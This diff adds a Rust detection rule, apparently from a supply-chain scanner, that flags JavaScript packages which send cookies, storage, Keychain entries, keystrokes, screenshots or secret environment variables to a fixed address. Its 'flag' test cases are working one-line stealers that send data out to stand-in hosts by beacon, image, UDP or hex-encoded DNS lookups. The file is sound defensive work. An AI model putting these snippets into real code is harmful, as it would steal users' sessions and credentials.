@@ -1,0 +1,602 @@
+//! Rule `client-data-theft`.
+
+use crate::model::Severity;
+use crate::package::{FileCtx, Package};
+use crate::rules::{Emitter, code_files, is_doc_path};
+
+crate::declare_rule! {
+    /// Code that takes what only the user's own machine or browser holds and sends it to an
+    /// address written into the code. The sources are the whole cookie jar (`document.cookie`
+    /// used as a value, every Electron cookie, the request headers an Electron `webRequest` hook
+    /// sees), Web Storage or React Native `AsyncStorage` walked key by key, the Keychain,
+    /// keystroke listeners, password and input fields, the clipboard, the screen
+    /// (`screencapture`, `desktopCapturer`, `CopyFromScreen`, `import -window root`), and values
+    /// picked out by a secret-shaped pattern (`/session|token|jwt/`, a JWT's `eyJ`). The send is a
+    /// request, beacon, image, socket, datagram, upload or DNS lookup whose destination is a
+    /// literal URL, host, public IP or domain suffix that is not loopback or private: a library's own endpoint is configured by
+    /// its user, while a thief carries its collector with it. Critical when the source and the
+    /// send sit in the same function, or the source's function feeds the sending one (calls it
+    /// by name, or fills a top-level buffer it reads); callbacks belong to the function that
+    /// registers them, and the top level (with its IIFEs) is one more function. A weak source
+    /// (screen, clipboard, fields, a secret pattern) needs a second kind or the machine's
+    /// identity there too, or a send hidden in encoded DNS names, else high; secret-named
+    /// environment variables count only three or more at once. Analytics SDKs read their own cookie by name, persist libraries walk
+    /// storage towards an address their caller gives, Electron cookie managers export to a file:
+    /// none matches.
+    id: "client-data-theft",
+    category: Data,
+    severity: High,
+    capability: Some(crate::model::Capability::Network),
+    title: "sends cookies, storage, keystrokes or screenshots to a fixed address",
+    incident: "Magecart-style skimmers and session stealers in front-end dependencies (2018-2025); the React Native compromise of Jun 2025 (gluestack/react-native-aria); screen-grabbing modules of the Contagious Interview tooling (2024-2025); getcookies (2018)",
+    case_file: "index.js",
+    flag: [
+        "function s() { const e = {}; for (let i = 0; i < localStorage.length; i++) { const k = localStorage.key(i); e[k] = localStorage.getItem(k) } navigator.sendBeacon('https://rum.collector.example/b', JSON.stringify({ c: document.cookie, s: e })) }",
+        "let store = require('@react-native-async-storage/async-storage').default\nconst warm = () => store.getAllKeys().then((k) => store.multiGet(k)).then((p) => fetch('https://203.0.113.9/v1', { method: 'POST', body: JSON.stringify(p) }))",
+        "const SID = /session|token|jwt/i\nconst sock = require('dgram').createSocket('udp4')\nfunction diag(obj) { const hits = []; for (const k in obj) if (SID.test(k)) hits.push(k + '=' + obj[k]); const m = Buffer.from(require('os').hostname() + hits.join(';')); sock.send(m, 0, m.length, 514, '198.51.100.4') }",
+        "document.addEventListener('keydown', (e) => { buf.push(e.key); if (buf.length > 50) { new Image().src = 'https://k.example.net/c?d=' + encodeURIComponent(buf.join('')); buf = [] } })",
+        "async function snap() { const env = process.env; const out = [env.AWS_ACCESS_KEY_ID, env.AWS_SECRET_ACCESS_KEY, env.AWS_SESSION_TOKEN]; const req = https.request('https://hooks.example.com/x', { method: 'POST' }); req.end(JSON.stringify(out)) }\nsnap()",
+        "const queue = [];\nfunction hook(ses) { ses.webRequest.onBeforeSendHeaders({ urls: ['*://*/*'] }, (d, cb) => { queue.push(d.requestHeaders); cb({}) }) }\nfunction flush() { const r = net.request({ method: 'POST', url: 'https://c.example.org/b' }); r.end(JSON.stringify(queue.splice(0))) }",
+        "const dns = require('dns')\nfunction beacon(p) { dns.resolve4(Buffer.from(p).toString('hex') + '.q.example.net', () => {}) }\nmodule.exports = (req, res, next) => { const jar = String(req.headers.cookie).split(';').filter((kv) => /sess|token|jwt/.test(kv)); beacon(jar.join(';') + require('os').hostname()); next() }",
+        "const dns = require('dns')\nconst S = /sess|token|jwt/i\nfunction leak(v) { dns.resolve4(Buffer.from(v).toString('hex').slice(0, 60) + '.d.example.org', () => {}) }\nexports.mw = (req, res, next) => { const c = String(req.headers.cookie).split(';').filter((kv) => S.test(kv)); if (c.length) leak(c.join(';')); next() }",
+        "async function shot() { await run('/usr/sbin/screencapture', ['-x', f]); const form = new FormData(); form.append('h', os.hostname()); await fetch('https://upload.example.org/s', { method: 'POST', body: form }) }",
+    ],
+    pass: [
+        "function id() { const m = document.cookie.match(/_ga=([^;]+)/); return fetch('https://api.analytics.example/collect', { method: 'POST', body: JSON.stringify({ cid: m && m[1] }) }) }",
+        "function persist() { for (let i = 0; i < localStorage.length; i++) { const k = localStorage.key(i); out[k] = localStorage.getItem(k) } return fetch(options.endpoint, { method: 'POST', body: JSON.stringify(out) }) }",
+        "document.addEventListener('keydown', (e) => { if (e.key === 'k' && e.metaKey) openPalette() })\nfunction load() { return fetch('https://cdn.example.com/icons.json') }",
+        "async function release() { return fetch('https://api.github.example/repos/o/r/releases', { method: 'POST', headers: { authorization: 'token ' + process.env.GITHUB_TOKEN }, body: JSON.stringify({ tag: process.env.TAG }) }) }",
+        "async function exportCookies() { const all = await session.defaultSession.cookies.get({}); fs.writeFileSync(file, JSON.stringify(all)) }\nfunction addHeaders(h) { session.defaultSession.webRequest.onBeforeSendHeaders({ urls: ['https://api.app.example/*'] }, (d, cb) => cb({ requestHeaders: Object.assign(d.requestHeaders, h) })) }\nasync function latest() { return (await fetch('https://updates.example.com/latest.json')).json() }",
+        "async function shot(file) { await run('screencapture', ['-x', file]); return file }",
+        "function log(obj) { const m = Buffer.from(JSON.stringify({ c: document.cookie })); sock.send(m, 0, m.length, 514, '127.0.0.1') }",
+    ],
+}
+
+/// What a file takes from the user; `strong` sources are theft on their own when sent.
+struct Src {
+    off: u32,
+    kind: &'static str,
+    strong: bool,
+    /// The secret's name, for sources counted by name (environment variables).
+    name: String,
+}
+
+/// Secret-named environment variables (`process.env.AWS_SECRET_ACCESS_KEY`, `env.NPM_TOKEN`
+/// through an alias of `process.env`): one is a client using its key, three or more sent
+/// together from one function are a harvest.
+fn secret_env_uses(text: &str) -> Vec<Src> {
+    let re = crate::regex!(
+        r#"\benv\.([A-Z][A-Z0-9_]*(?:TOKEN|SECRET|PASSWORD|PASSWD|ACCESS_KEY|PRIVATE_KEY|API_KEY|CREDENTIALS?)[A-Z0-9_]*)\b|\benv\[\s*['"]([A-Z][A-Z0-9_]*(?:TOKEN|SECRET|PASSWORD|PASSWD|ACCESS_KEY|PRIVATE_KEY|API_KEY|CREDENTIALS?)[A-Z0-9_]*)['"]\s*\]"#
+    );
+    re.captures_iter(text)
+        .take(64)
+        .filter_map(|c| {
+            let m = c.get(1).or(c.get(2))?;
+            Some(Src {
+                off: m.start() as u32,
+                kind: "secret environment variables",
+                strong: false,
+                name: m.as_str().to_string(),
+            })
+        })
+        .collect()
+}
+
+fn sources(f: &FileCtx) -> Vec<Src> {
+    let text = f.text.as_str();
+    let mut out: Vec<Src> = Vec::new();
+    if !crate::mentions!(
+        text,
+        [
+            "cookie",
+            "Storage",
+            "getAllKeys",
+            "multiGet",
+            "Keychain",
+            "getGenericPassword",
+            "getInternetCredentials",
+            "key",
+            "password",
+            "querySelectorAll",
+            "clipboard",
+            "pbpaste",
+            "Get-Clipboard",
+            "xclip",
+            "screencapture",
+            "desktopCapturer",
+            "CopyFromScreen",
+            "-window root",
+            "screenshot",
+            "getDisplayMedia",
+            "requestHeaders"
+        ]
+    ) {
+        let mut out = secret_pattern_uses(text);
+        out.extend(secret_env_uses(text));
+        return out;
+    }
+    let table: &[(&crate::rules::gate::Re, &'static str, bool)] = &[
+        (
+            crate::regex!(r"[:,+\[(]\s*(?:window\.)?document\.cookie\s*[,})\]+;]"),
+            "the whole cookie jar",
+            true,
+        ),
+        (
+            crate::regex!(
+                r"\b(?:local|session)Storage\.key\(|Object\.(?:keys|entries|values|assign)\(\s*(?:\{\s*\}\s*,\s*)?(?:window\.)?(?:local|session)Storage\b|JSON\.stringify\(\s*(?:window\.)?(?:local|session)Storage\b|\.\.\.\s*(?:window\.)?(?:local|session)Storage\b|\bin\s+(?:window\.)?(?:local|session)Storage\b"
+            ),
+            "every Web Storage entry",
+            true,
+        ),
+        (
+            crate::regex!(r"\.getAllKeys\(\s*\)|\.multiGet\("),
+            "AsyncStorage entries",
+            true,
+        ),
+        (
+            crate::regex!(
+                r"\b(?:getGenericPassword|getInternetCredentials|getAllGenericPasswordServices)\("
+            ),
+            "Keychain passwords",
+            true,
+        ),
+        (
+            crate::regex!(r"\.cookies\.get\(\s*\{\s*\}\s*\)"),
+            "every Electron cookie",
+            true,
+        ),
+        (
+            crate::regex!(r"webRequest\.on(?:BeforeSendHeaders|SendHeaders)\b"),
+            "the headers of every request",
+            true,
+        ),
+        (
+            crate::regex!(
+                r#"addEventListener\(\s*['"`]key(?:down|press|up)['"`]|\bonkey(?:down|press|up)\s*=[^=]"#
+            ),
+            "keystrokes",
+            true,
+        ),
+        (
+            crate::regex!(r#"(?i)type\s*=\s*\\?['"]?password"#),
+            "password fields",
+            false,
+        ),
+        (
+            crate::regex!(r#"querySelectorAll\(\s*['"`][^'"`]*\binput\b"#),
+            "form fields",
+            false,
+        ),
+        (
+            crate::regex!(
+                r"clipboard\.readText\(|\bpbpaste\b|Get-Clipboard\b|\bxclip\b[^\n]{0,20}-o\b|\bxsel\b"
+            ),
+            "the clipboard",
+            false,
+        ),
+        (
+            crate::regex!(
+                r"\bscreencapture\b|desktopCapturer\b|CopyFromScreen\b|\bimport\s+-window\s+root\b|gnome-screenshot\b|\bscrot\b|screenshot-desktop\b|getDisplayMedia\(|\bxwd\s+-root\b"
+            ),
+            "the screen",
+            false,
+        ),
+    ];
+    for (re, kind, strong) in table {
+        for m in re.find_iter(text).take(16) {
+            out.push(Src {
+                off: m.start() as u32,
+                kind,
+                strong: *strong,
+                name: String::new(),
+            });
+        }
+    }
+    out.extend(secret_pattern_uses(text));
+    out.extend(secret_env_uses(text));
+    out
+}
+
+/// Values picked out by a secret-shaped pattern: a regex literal naming two kinds of secret, or
+/// a JWT's header, where it is used (`SESSION.test(k)`).
+fn secret_pattern_uses(text: &str) -> Vec<Src> {
+    let mut out = Vec::new();
+    let secret_re = crate::regex!(
+        r"(?:var|let|const)\s+([A-Za-z_$][\w$]*)\s*=\s*/([^/\n]*(?:session|token|jwt|eyJ|mnemonic|seed|private|secret|passw|wallet|bearer|auth)[^/\n]*)/[a-z]*"
+    );
+    let words = crate::regex!(
+        r"(?i)session|token|jwt|eyj|mnemonic|seed|private|secret|passw|wallet|bearer|auth|cookie|\bsid\b|keystore"
+    );
+    let inline = crate::regex!(r"/([^/\n]{3,80})/[a-z]*\.test\(");
+    for c in inline.captures_iter(text).take(8) {
+        let Some(body) = c.get(1) else { continue };
+        let kinds: std::collections::HashSet<String> = words
+            .find_iter(body.as_str())
+            .map(|m| m.as_str().to_ascii_lowercase())
+            .collect();
+        if kinds.len() >= 2 {
+            out.push(Src {
+                off: body.start() as u32,
+                kind: "values matching a secret pattern",
+                strong: false,
+                name: String::new(),
+            });
+        }
+    }
+    for c in secret_re.captures_iter(text).take(8) {
+        let (Some(name), Some(body)) = (c.get(1), c.get(2)) else {
+            continue;
+        };
+        let kinds: std::collections::HashSet<String> = words
+            .find_iter(body.as_str())
+            .map(|m| m.as_str().to_ascii_lowercase())
+            .collect();
+        if kinds.len() < 2 && !body.as_str().contains("eyJ") {
+            continue;
+        }
+        let uses = format!("{}.test(", name.as_str());
+        for (i, _) in text.match_indices(&uses).take(8) {
+            out.push(Src {
+                off: i as u32,
+                kind: "values matching a secret pattern",
+                strong: false,
+                name: String::new(),
+            });
+        }
+    }
+    out
+}
+
+/// Whether a host is somewhere other than this machine or its private network.
+fn foreign_host(host: &str) -> bool {
+    let h = host.trim_start_matches('[').to_ascii_lowercase();
+    if h.is_empty() || !h.contains('.') && !h.contains(':') {
+        return false;
+    }
+    if h == "localhost" || h.ends_with(".localhost") || h.ends_with(".local") {
+        return false;
+    }
+    if let Ok(ip) = h.parse::<std::net::Ipv4Addr>() {
+        return !(ip.is_loopback() || ip.is_private() || ip.is_unspecified() || ip.is_link_local());
+    }
+    if h.starts_with("::") || h.contains("${") || h.contains('*') {
+        return false;
+    }
+    // A host name: letters in its last label.
+    h.rsplit('.')
+        .next()
+        .is_some_and(|tld| tld.len() >= 2 && tld.chars().all(|c| c.is_ascii_alphabetic()))
+}
+
+/// Offsets of fixed foreign destinations written in the file: a URL, a `host:` option or a
+/// quoted public IP.
+fn destinations(f: &FileCtx) -> Vec<(u32, String)> {
+    let re = crate::regex!(
+        r#"['"`](?:https?|wss?|ftp)://([^/'"`\s:?#@]+)|\bhost(?:name)?\s*:\s*['"`]([A-Za-z0-9.-]+)['"`]|['"`](\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3})['"`]|['"`]\.((?:[a-z0-9-]+\.)+[a-z]{2,})['"`]"#
+    );
+    let mut out = Vec::new();
+    for c in re.captures_iter(&f.text).take(256) {
+        let Some(h) = c.get(1).or(c.get(2)).or(c.get(3)).or(c.get(4)) else {
+            continue;
+        };
+        if foreign_host(h.as_str()) {
+            out.push((h.start() as u32, h.as_str().to_string()));
+        }
+    }
+    out
+}
+
+/// Whether a call's folded arguments or `url`/`host` options name a foreign host.
+fn folded_foreign(c: &crate::js::Call) -> bool {
+    (0..c.args.len())
+        .filter_map(|i| c.arg_lit(i))
+        .chain(["url", "host", "hostname"].iter().filter_map(|k| c.opt(k)))
+        .any(|v| {
+            let h = v
+                .split_once("://")
+                .map_or(v, |(_, r)| r)
+                .split(['/', ':', '?', '#'])
+                .next()
+                .unwrap_or("");
+            foreign_host(h)
+        })
+}
+
+/// Whether the send at `off` goes to an address fixed in the code: its call names a foreign
+/// host, or one is written in the same function. For other rules judging a flow's sink.
+pub(crate) fn fixed_destination(f: &FileCtx, off: u32) -> bool {
+    let Some(js) = &f.js else { return false };
+    let scope = js.scope_of(off);
+    js.calls.iter().any(|c| c.off == off && folded_foreign(c))
+        || destinations(f)
+            .iter()
+            .any(|(o, _)| js.scope_of(*o) == scope)
+}
+
+/// Whether a call sends data somewhere.
+fn is_send(path: &str) -> bool {
+    if crate::rules::network::is_net_call(path) {
+        return true;
+    }
+    let last = path.rsplit('.').next().unwrap_or(path);
+    matches!(
+        last,
+        "send"
+            | "sendBeacon"
+            | "sendMail"
+            | "request"
+            | "write"
+            | "end"
+            | "post"
+            | "put"
+            | "upload"
+            | "uploadFrom"
+            | "ajax"
+            | "fetch"
+            | "open"
+            | "connect"
+            | "createConnection"
+            | "lookup"
+            | "resolve"
+            | "resolve4"
+            | "resolve6"
+            | "resolveTxt"
+            | "resolveAny"
+    ) || path == "Image"
+        || path == "WebSocket"
+}
+
+/// The text of a unit (a function, or the top level when `None`).
+fn unit_text(text: &str, sc: Option<(u32, u32)>) -> &str {
+    match sc {
+        Some((s, e)) => text
+            .get(s as usize..(e as usize).min(text.len()))
+            .unwrap_or(""),
+        None => text,
+    }
+}
+
+/// The name a function is called by: `function NAME(`, `NAME = (…) =>`, `NAME(…) {`.
+fn unit_name(text: &str, sc: Option<(u32, u32)>) -> Option<&str> {
+    let (s, _) = sc?;
+    let body = text.get(s as usize..(s as usize + 80).min(text.len()))?;
+    let decl = crate::regex!(r"^(?:async\s+)?function\s*\*?\s*([A-Za-z_$][\w$]*)");
+    if let Some(c) = decl.captures(body) {
+        return c.get(1).map(|m| m.as_str());
+    }
+    let before = text.get((s as usize).saturating_sub(60)..s as usize)?;
+    let assigned = crate::regex!(r"([A-Za-z_$][\w$]*)\s*[=:]\s*(?:async\s*)?$");
+    assigned
+        .captures(before)
+        .and_then(|c| c.get(1))
+        .map(|m| m.as_str())
+}
+
+/// Whether data of the `src` unit reaches the `send` unit: the source's unit calls the sending
+/// function by name (`beacon(jar)`), or fills a top-level buffer (`queue.push(…)`) the sending
+/// function reads.
+fn linked(
+    js: &crate::js::JsFacts,
+    text: &str,
+    src: Option<(u32, u32)>,
+    send: Option<(u32, u32)>,
+) -> bool {
+    if src == send {
+        return true;
+    }
+    // Offsets of `needle` written in the source's own unit (not in functions nested in it).
+    let in_src = |needle: &str| -> Vec<usize> {
+        let (base, body) = match src {
+            Some((s, _)) => (s as usize, unit_text(text, src)),
+            None => (0, text),
+        };
+        body.match_indices(needle)
+            .map(|(i, _)| base + i)
+            .filter(|i| js.scope_of(*i as u32) == src)
+            .take(16)
+            .collect()
+    };
+    if let Some(name) = unit_name(text, send)
+        && name.len() > 1
+        && in_src(name).into_iter().any(|i| {
+            let before = text[..i].trim_end();
+            let prev = text[..i].chars().next_back();
+            let after = &text[i + name.len()..];
+            !prev.is_some_and(|c| c.is_alphanumeric() || c == '_' || c == '$' || c == '.')
+                && !before.ends_with("function")
+                && after.trim_start().starts_with('(')
+        })
+    {
+        return true;
+    }
+    let buffers = crate::regex!(
+        r"(?m)^(?:const|let|var)\s+([A-Za-z_$][\w$]*)\s*=\s*(?:\[|\{|new\s+(?:Map|Set|Array)\b)"
+    );
+    let send_text = unit_text(text, send);
+    buffers.captures_iter(text).take(32).any(|c| {
+        let Some(n) = c.get(1).map(|m| m.as_str()) else {
+            return false;
+        };
+        n.len() > 1
+            && [".push(", ".set(", ".add(", ".unshift("]
+                .iter()
+                .any(|op| !in_src(&format!("{n}{op}")).is_empty())
+            && send_text.contains(n)
+    })
+}
+
+/// The machine's identity read next to the source (a stealer tags its loot).
+fn identity_in(text: &str, span: (u32, u32)) -> bool {
+    let s = text
+        .get(span.0 as usize..(span.1 as usize).min(text.len()))
+        .unwrap_or("");
+    s.contains("hostname()") || s.contains("userInfo()") || s.contains("whoami")
+}
+
+fn check(pkg: &Package, out: &mut Emitter) {
+    for f in code_files(pkg) {
+        if is_doc_path(&f.path) {
+            continue;
+        }
+        let Some(js) = &f.js else { continue };
+        let srcs = sources(f);
+        if srcs.is_empty() {
+            continue;
+        }
+        let dests = destinations(f);
+        // Sends whose destination is fixed: a literal in the send's own function, or a folded
+        // argument or option of the call.
+        let sends: Vec<(u32, Option<(u32, u32)>)> = js
+            .calls
+            .iter()
+            .filter(|c| is_send(&c.path))
+            .filter_map(|c| {
+                let scope = js.scope_of(c.off);
+                let local = dests.iter().any(|(o, _)| js.scope_of(*o) == scope);
+                (folded_foreign(c) || local).then_some((c.off, scope))
+            })
+            .collect();
+        // Sends the resolver could not name (`xhr.send`, `sock.send`, `new Image().src = …`),
+        // found in the text: a fixed destination must sit in the same function.
+        let text_sends = crate::regex!(
+            r"\.(?:send|sendBeacon|sendMail|write|end|request|post|put|upload|uploadFrom|open|connect|lookup|resolve|resolve4|resolve6|resolveTxt)\s*\(|\bfetch\s*\(|\bnew\s+(?:Image|WebSocket)\b|\.src\s*=[^=]"
+        );
+        let by_text: Vec<(u32, Option<(u32, u32)>)> = if dests.is_empty() {
+            Vec::new()
+        } else {
+            text_sends
+                .find_iter(&f.text)
+                .take(512)
+                .map(|m| m.start() as u32)
+                .filter_map(|o| {
+                    let sc = js.scope_of(o);
+                    dests
+                        .iter()
+                        .any(|(d, _)| js.scope_of(*d) == sc)
+                        .then_some((o, sc))
+                })
+                .collect()
+        };
+        let all_sends: Vec<(u32, Option<(u32, u32)>)> = sends.into_iter().chain(by_text).collect();
+        if all_sends.is_empty() {
+            continue;
+        }
+        // A unit this big is a module's worth of code, not one function.
+        let too_big = |sc: Option<(u32, u32)>| match sc {
+            Some((s, e)) => e - s > 12_000,
+            None => f.text.len() > 12_000,
+        };
+        // Same function (or both at load time).
+        let mut best: Option<(Severity, u32, String)> = None;
+        for (send_off, scope) in &all_sends {
+            if too_big(*scope) {
+                continue;
+            }
+            let here: Vec<&Src> = srcs
+                .iter()
+                .filter(|s| {
+                    let sc = js.scope_of(s.off);
+                    sc == *scope || !too_big(sc) && linked(js, &f.text, sc, *scope)
+                })
+                .collect();
+            if here.is_empty() {
+                continue;
+            }
+            let kinds: std::collections::BTreeSet<&str> = here.iter().map(|s| s.kind).collect();
+            let env_names: std::collections::BTreeSet<&str> = here
+                .iter()
+                .filter(|s| !s.name.is_empty())
+                .map(|s| s.name.as_str())
+                .collect();
+            // Sources other than environment variables: a client sends its own key to its own
+            // API, so a key or two next to a fixed URL is no theft.
+            let other_kinds = kinds.len() - usize::from(!env_names.is_empty());
+            let span = scope.unwrap_or((0, f.text.len() as u32));
+            // Encoded data in DNS names: a covert channel no client needs for its own API.
+            let covert = crate::regex!(r"\.(?:resolve\w*|lookup)\(")
+                .is_match(unit_text(&f.text, *scope))
+                && crate::regex!(r#"toString\(\s*['"](?:hex|base64)|base32"#)
+                    .is_match(unit_text(&f.text, *scope));
+            let strong = here.iter().any(|s| s.strong)
+                || covert && other_kinds >= 1
+                || env_names.len() >= 3
+                || other_kinds >= 2
+                || other_kinds >= 1 && identity_in(&f.text, span);
+            if !strong && other_kinds == 0 {
+                continue;
+            }
+            let sev = if strong {
+                Severity::Critical
+            } else {
+                Severity::High
+            };
+
+            let what: Vec<&str> = kinds.into_iter().collect();
+            if best.as_ref().is_none_or(|(s, _, _)| sev > *s) {
+                best = Some((
+                    sev,
+                    *send_off,
+                    format!(
+                        "sends {} to a fixed address from the same function or one it feeds",
+                        what.join(", ")
+                    ),
+                ));
+            }
+        }
+        if let Some((sev, off, msg)) = best {
+            out.hit_sev(sev, pkg, f, off, msg);
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use crate::package::Package;
+
+    fn pkg(files: &[(&str, &str)]) -> Package<'static> {
+        let files = files
+            .iter()
+            .map(|(p, b)| (p.to_string(), b.as_bytes().to_vec()))
+            .collect();
+        Package::build(files, Vec::new(), None, &Default::default())
+    }
+
+    #[test]
+    fn iifes_and_callbacks_are_load_time_code_of_an_entry_file() {
+        let src = "(function () { a() })();\nsetTimeout(() => b(), 1);\nfunction later() { c() }";
+        let p = pkg(&[
+            (
+                "package.json",
+                r#"{"name":"x","version":"1.0.0","main":"index.js"}"#,
+            ),
+            ("index.js", src),
+        ]);
+        let f = p
+            .files
+            .iter()
+            .find(|f| f.path == "index.js")
+            .expect("index.js is in the package");
+        for (needle, load) in [("a()", true), ("b()", true), ("c()", false)] {
+            let off = src.find(needle).expect("needle is in the source") as u32;
+            assert_eq!(p.runs_on_load(f, off), load, "{needle}");
+        }
+    }
+
+    #[test]
+    fn the_react_native_field_names_an_entry_file() {
+        let p = pkg(&[
+            (
+                "package.json",
+                r#"{"name":"x","version":"1.0.0","main":"lib/node.js","react-native":"lib/native.js"}"#,
+            ),
+            ("lib/node.js", "module.exports = 1"),
+            ("lib/native.js", "module.exports = 2"),
+        ]);
+        let f = p
+            .files
+            .iter()
+            .find(|f| f.path == "lib/native.js")
+            .expect("native file is in the package");
+        assert!(p.is_entry_file(f));
+    }
+}
